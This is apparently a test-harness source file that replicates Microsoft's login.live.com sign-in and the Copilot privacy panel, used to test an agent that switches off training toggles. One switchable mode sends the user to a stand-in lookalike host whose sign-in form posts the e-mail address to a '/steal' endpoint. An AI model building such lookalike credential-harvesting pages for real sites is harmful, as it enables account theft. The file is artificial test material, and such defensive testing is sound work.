"""Microsoft Copilot replica: the Microsoft account sign-in at login.live.com and the Copilot web
app at copilot.microsoft.com, whose two training toggles sit behind profile → Privacy (there is no
deep link, docs/research/platforms.md §10).

`absent` is the Copilot app of 2026-08-18: its Privacy panel has no training toggle
(docs/research/evidence-2026-12.md). The sentence "prompts … aren't used to train foundation models" is known only
from Microsoft's support pages, so the panel shows it only when a test sets `says_not_trained`. Sign-in: e-mail (#i0116) → password (#i0118) →
sometimes a one-time code or a proof list → "Stay signed in?" → back to Copilot. The profile
button's name, the callback path, the session cookie, the save endpoint and texts other than the
labels are the replica's own."""

from __future__ import annotations

import html
import secrets
from urllib.parse import urlsplit

from optout.sandbox.kit.assistant import Toggle, rows, save, session_callback, settings_page
from optout.sandbox.replica import Replica, Request, Response, page, redirect

SAVE_PATH = "/c/api/user/settings"
LOOKALIKE_HOST = "login.live.com.evil.test"
COOKIE = "copilot_session"
TOGGLES = [
    Toggle(
        "text-training",
        "Model training on text",
        changed="Use my chats to improve Copilot",
        foreign="Entraînement du modèle sur le texte",
        hint="Allow Microsoft to use your text conversations to train its generative AI models.",
    ),
    Toggle(
        "voice-training",
        "Model training on voice",
        changed="Use my voice chats to improve Copilot",
        foreign="Entraînement du modèle sur la voix",
        hint="Allow Microsoft to use your voice conversations to train its generative AI models.",
    ),
]
NEW_APP = "Your prompts and Copilot’s responses aren’t used to train foundation models."


class Copilot(Replica):
    platform = "copilot"
    hosts = ("copilot.microsoft.com", "login.live.com", LOOKALIKE_HOST)
    settings = ("text-training", "voice-training")
    session_cookie = (COOKIE, "copilot.microsoft.com")

    def fresh_state(self) -> dict:
        return {**super().fresh_state(), "pending": {}}

    def user(self, req: Request) -> str | None:
        return self.session_user(req.cookies.get(COOKIE))

    def handle(self, req: Request) -> Response:
        host = urlsplit(req.url).hostname
        if host == LOOKALIKE_HOST:
            return self.email_page(lookalike=True)
        if host == "login.live.com":
            return self.live(req)
        if req.path == "/auth/callback":
            return session_callback(self, req, COOKIE, signed_out="/")
        if req.path == "/":
            user = self.user(req)
            if user is None:
                return page(
                    """<header><button type="button" onclick="location.href='https://login.live.com/'">Sign in</button></header>
<h1>Hi, how can I help?</h1><textarea aria-label="Message Copilot"></textarea>""",
                    title="Microsoft Copilot",
                )
            return self.app(user)
        if req.path == SAVE_PATH and req.method == "POST":
            return save(self, req, self.user(req))
        return Response(status=404, body="<h1>Page not found</h1>")

    # --- sign-in at login.live.com -------------------------------------------------------------------

    def live(self, req: Request) -> Response:
        step = req.query.get("step", "")
        if req.method == "GET" and req.path in ("/", "/login.srf"):
            if self.misbehaves("lookalike_login"):
                return redirect(f"https://{LOOKALIKE_HOST}/login.srf")
            return self.email_page()
        if req.method != "POST" or req.path != "/ppsecure/post.srf":
            return Response(status=404, body="<h1>Page not found</h1>")
        if step == "username":
            return self.password_page(req.form.get("loginfmt", ""))
        if step == "password":
            who, password = req.form.get("who", ""), req.form.get("passwd", "")
            ok = self.check_password(who, password)
            if not ok:
                return self.password_page(who, error="Your account or password is incorrect.")
            if self.misbehaves("checkpoint"):
                return page(
                    """<h1>Verify your identity</h1><div id="idDiv_SAOTCS_Proofs">
<div role="button">Text +XX XXXXXXX12</div><div role="button">Email de*****@example.org</div></div>""",
                    title="Sign in to your Microsoft account",
                )
            if self.wants_code(who):
                return self.code_page(who)
            return self.kmsi_page(who)
        if step == "otp":
            who = req.form.get("who", "")
            ok = self.check_code(who, req.form.get("otc", ""))
            if not ok:
                return self.code_page(who, error="That code didn't work.")
            return self.kmsi_page(who)
        if step == "kmsi":
            who = self.state["pending"].pop(req.form.get("flow", ""), None)
            self.sandbox.save()
            if who is None:
                return self.email_page()
            return redirect(
                f"https://copilot.microsoft.com/auth/callback?token={self.new_session(who)}"
            )
        return Response(status=404, body="<h1>Page not found</h1>")

    def email_page(self, *, lookalike: bool = False) -> Response:
        action = (
            f"https://{LOOKALIKE_HOST}/steal" if lookalike else "/ppsecure/post.srf?step=username"
        )
        return page(
            f"""<h1>Sign in</h1><form method="post" action="{action}">
<input type="email" id="i0116" name="loginfmt" aria-label="Email, phone, or Skype" autocomplete="username">
<input type="submit" id="idSIButton9" value="Next"></form>""",
            title="Sign in to your Microsoft account",
        )

    def password_page(self, who: str, error: str = "") -> Response:
        return page(
            f"""<h1>Enter password</h1><p>{html.escape(who)}</p>
<form method="post" action="/ppsecure/post.srf?step=password"><input type="hidden" name="who" value="{html.escape(who)}">
<input type="password" id="i0118" name="passwd" aria-label="Password" autocomplete="current-password">
<div id="passwordError" role="alert">{html.escape(error)}</div>
<input type="submit" id="idSIButton9" value="Sign in"></form>""",
            title="Sign in to your Microsoft account",
        )

    def code_page(self, who: str, error: str = "") -> Response:
        return page(
            f"""<h1>Enter code</h1><p>Enter the code displayed in your authenticator app.</p>
<form method="post" action="/ppsecure/post.srf?step=otp"><input type="hidden" name="who" value="{html.escape(who)}">
<input id="idTxtBx_SAOTCC_OTC" name="otc" autocomplete="one-time-code" aria-label="Code">
<div role="alert">{html.escape(error)}</div>
<button type="submit" data-testid="primaryButton">Verify</button></form>""",
            title="Sign in to your Microsoft account",
        )

    def kmsi_page(self, who: str) -> Response:
        flow = secrets.token_urlsafe(8)
        self.state["pending"][flow] = who
        self.sandbox.save()
        return page(
            f"""<h1>Stay signed in?</h1><p>Do this to reduce the number of times you are asked to sign in.</p>
<form method="post" action="/ppsecure/post.srf?step=kmsi"><input type="hidden" name="flow" value="{flow}">
<input type="submit" id="idBtn_Back" name="choice" value="No"><input type="submit" id="idSIButton9" name="choice" value="Yes">
</form>""",
            title="Sign in to your Microsoft account",
        )

    # --- the Copilot app -----------------------------------------------------------------------------

    def app(self, user: str) -> Response:
        if self.misbehaves(
            "absent"
        ):  # the 2026 app: no toggle; the sentence only where a page says it
            said = f"<p>{html.escape(NEW_APP)}</p>" if self.state.get("says_not_trained") else ""
            panel = f"<h2>Privacy</h2>{said}<div class='row'><span>Personalization</span><button type='button'>Manage</button></div>"
        else:
            panel = "<h2>Privacy</h2>" + rows(TOGGLES, self.settings_of(user), self)
        privacy = "Confidentialité" if self.misbehaves("language") else "Privacy"
        body = f"""<header><button type="button" id="profile" aria-label="Open profile menu" aria-haspopup="menu">DE</button>
<div id="profile-menu" role="menu" hidden><div role="menuitem" tabindex="-1">{html.escape(self.state["username"])}</div>
<div role="menuitem" tabindex="-1" id="privacy-item">{privacy}</div><div role="menuitem" tabindex="-1">Sign out</div></div></header>
<h1>Hi, how can I help?</h1><textarea aria-label="Message Copilot"></textarea>
<div id="privacy" role="dialog" aria-label="{privacy}" hidden>{panel}</div>"""
        script = """
document.getElementById('profile').addEventListener('click', () => {
  document.getElementById('profile-menu').hidden = false;
});
document.getElementById('privacy-item').addEventListener('click', () => {
  document.getElementById('profile-menu').hidden = true;
  document.getElementById('privacy').hidden = false;
});"""
        return settings_page(
            self, body, title="Microsoft Copilot", save_path=SAVE_PATH, extra_script=script
        )
